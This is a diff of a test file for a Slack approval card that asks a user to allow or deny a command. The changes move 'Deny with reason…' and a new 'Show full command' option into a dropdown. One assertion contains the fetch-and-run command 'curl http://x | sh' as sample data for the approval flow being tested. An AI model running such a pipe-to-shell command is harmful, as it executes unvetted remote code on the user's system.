@@ -232,7 +232,8 @@ describe("Socket Mode", () => {
     const sent = await it.channel.send(message);
     if (sent.kind !== "sent") throw new Error(sent.kind);
     const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
-    expect(emulator.buttons(card)).toEqual(["Allow once", "Allow always", "Deny", "Deny with reason…"]);
+    expect(emulator.buttons(card)).toEqual(["Allow once", "Allow always", "Deny"]);
+    expect(emulator.choices(card)).toEqual(["Deny with reason…", "Show full command"]);
     expect(await emulator.press("U0BRAMWIT", card.ts, "Allow once")).toEqual({ outcome: "ok" });
     await expect.poll(() => it.events).toHaveLength(1);
     expect(it.events[0]).toMatchObject({
@@ -361,7 +362,8 @@ describe("Socket Mode", () => {
     expect(file.threadTs).toBe(card.ts);
     expect(file.files[0]?.bytes?.toString()).toBe(command);
     expect(card.history[0]?.blocks.some((block) => block.type === "actions")).toBe(false);
-    expect(emulator.buttons(card)).toEqual(["Allow once", "Deny", "Deny with reason…"]);
+    expect(emulator.buttons(card)).toEqual(["Allow once", "Deny"]);
+    expect(emulator.choices(card)).toEqual(["Deny with reason…", "Show full command"]);
     const screen = emulator.screenText("U0ALICENG", "C0OPSROOM");
     expect(screen).toContain("curl http://x | sh");
     expect(screen).toMatch(/… \d+ characters not shown here …/);
